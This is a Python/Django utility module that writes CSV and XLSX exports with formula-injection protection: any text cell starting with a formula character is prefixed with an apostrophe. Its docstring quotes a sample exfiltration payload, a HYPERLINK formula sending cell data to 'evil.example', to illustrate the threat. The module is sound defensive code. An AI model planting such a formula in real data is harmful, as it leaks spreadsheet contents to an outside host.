"""CSV exports that are safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@` (or a tab/carriage return, which some spreadsheets skip before
reading a formula) is run as a formula by Excel, LibreOffice and Google Sheets: a customer name such as
`=HYPERLINK("http://evil.example?"&A1)` would leak data from the sheet. Every exported cell goes through
`safe_cell`, which prefixes such text with an apostrophe: spreadsheets then show it as plain text.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import IO, Any

from django.http import HttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# Excel opens a UTF-8 CSV as UTF-8 only when it starts with a byte-order mark.
UTF8_BOM = "\ufeff"


def safe_cell(value: Any) -> Any:
    """The value to write into a CSV cell: text that a spreadsheet would run as a formula gets a leading
    apostrophe. Numbers, dates and None pass unchanged (a negative number is a number, not a formula)."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def write_csv(stream: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write a header and rows to a text stream, every cell neutralised by `safe_cell`."""
    writer = csv.writer(stream)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    buffer = io.StringIO()
    write_csv(buffer, header, rows)
    return buffer.getvalue()


def _safe_filename(filename: str) -> str:
    name = re.sub(r"[^A-Za-z0-9._-]+", "_", filename).strip("._") or "export"
    return name if name.lower().endswith(".csv") else f"{name}.csv"


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """A downloadable CSV (UTF-8 with a BOM, so Excel reads accents right) with formula-safe cells."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{_safe_filename(filename)}"'
    response.write(UTF8_BOM)
    write_csv(response, header, rows)
    return response


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _xlsx_cell(value: Any) -> Any:
    """An XLSX cell: numbers (Decimal money included) and dates stay typed, so a spreadsheet can sum them; text
    goes through `safe_cell`. openpyxl would store a string starting with `=` as a formula: never let it."""
    value = safe_cell(value)
    if isinstance(value, str | int | float | Decimal | dt.date | bool) or value is None:
        return value
    return str(value)


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], *, title: str = "Export") -> bytes:
    from openpyxl import Workbook  # imported here: only exports need it

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=re.sub(r"[\[\]:*?/\\]", " ", title)[:31] or "Export")
    sheet.append([_xlsx_cell(h) for h in header])
    for row in rows:
        sheet.append([_xlsx_cell(v) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """A downloadable XLSX with formula-safe text cells and numeric money cells."""
    name = re.sub(r"\.csv$", "", _safe_filename(filename))
    name = name if name.lower().endswith(".xlsx") else f"{name}.xlsx"
    response = HttpResponse(xlsx_bytes(header, rows, title=name.removesuffix(".xlsx")), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{name}"'
    return response
